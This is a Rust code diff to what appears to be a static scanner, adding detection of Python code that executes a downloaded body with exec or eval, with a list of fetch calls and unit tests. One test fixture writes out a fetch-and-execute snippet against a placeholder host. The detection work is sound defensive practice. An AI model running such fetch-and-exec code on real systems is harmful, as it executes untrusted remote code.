@@ -47,7 +47,20 @@ pub(crate) struct CodeFindings {
     pub(crate) reverse_shell: bool,
     /// Shell command lines the code runs.
     pub(crate) commands: Vec<String>,
+    /// `exec`/`eval` of a name assigned from a download
+    /// (`src = urlopen(u).read()` … `exec(src)`).
+    pub(crate) remote_exec: bool,
 }
+
+/// Calls whose value is a downloaded body.
+const FETCHES: &[&str] = &[
+    "urlopen(",
+    "requests.get(",
+    "httpx.get(",
+    "net::http.get(",
+    "uri.open(",
+    "urllib.request.urlopen(",
+];
 
 /// Most calls examined per program.
 const MAX_CALLS: usize = 256;
@@ -84,10 +97,17 @@ pub(crate) fn read(code: &str) -> CodeFindings {
         return out;
     };
     let mut names: HashMap<String, String> = HashMap::new();
+    let mut fetched: Vec<&str> = Vec::new();
     for c in p.assign.captures_iter(code).take(MAX_NAMES * 4) {
         let (Some(name), Some(rhs)) = (c.get(1), c.get(2)) else {
             continue;
         };
+        if fetched.len() < 16 {
+            let r = rhs.as_str().to_ascii_lowercase();
+            if FETCHES.iter().any(|f| r.contains(f)) {
+                fetched.push(name.as_str());
+            }
+        }
         if names.len() >= MAX_NAMES {
             break;
         }
@@ -110,6 +130,11 @@ pub(crate) fn read(code: &str) -> CodeFindings {
         let args_text = call_args(code, whole.end());
         let args = split_top(args_text);
         let first = args.first().and_then(|a| fold(a, &names));
+        if matches!(callee.as_str(), "exec" | "eval")
+            && args.first().is_some_and(|a| fetched.contains(&a.trim()))
+        {
+            out.remote_exec = true;
+        }
         match last {
             "rmtree" | "rmSync" | "rmdirSync" | "rm_rf" | "rm_r" | "rimraf" | "removedirs"
             | "remove_dir_all" | "emptyDirSync" | "removeSync" | "RemoveAll" | "remove_tree"
@@ -730,6 +755,13 @@ mod tests {
         let r = read("const { execSync } = require('child_process');\nconst sha = execSync('git rev-parse --short HEAD').toString().trim();\n");
         assert_eq!(r.commands, ["git rev-parse --short HEAD"]);
         assert!(read("m = re.compile('x'); m.exec('y')").commands.is_empty());
+    }
+
+    #[test]
+    fn remote_exec() {
+        assert!(read("import urllib.request\nsrc = urllib.request.urlopen('https://x.example/b.py').read().decode()\nexec(src)\n").remote_exec);
+        assert!(!read("src = open('setup_helpers.py').read()\nexec(src)\n").remote_exec);
+        assert!(!read("body = requests.get(url).text\nprint(body)\nexec('1')\n").remote_exec);
     }
 
     #[test]
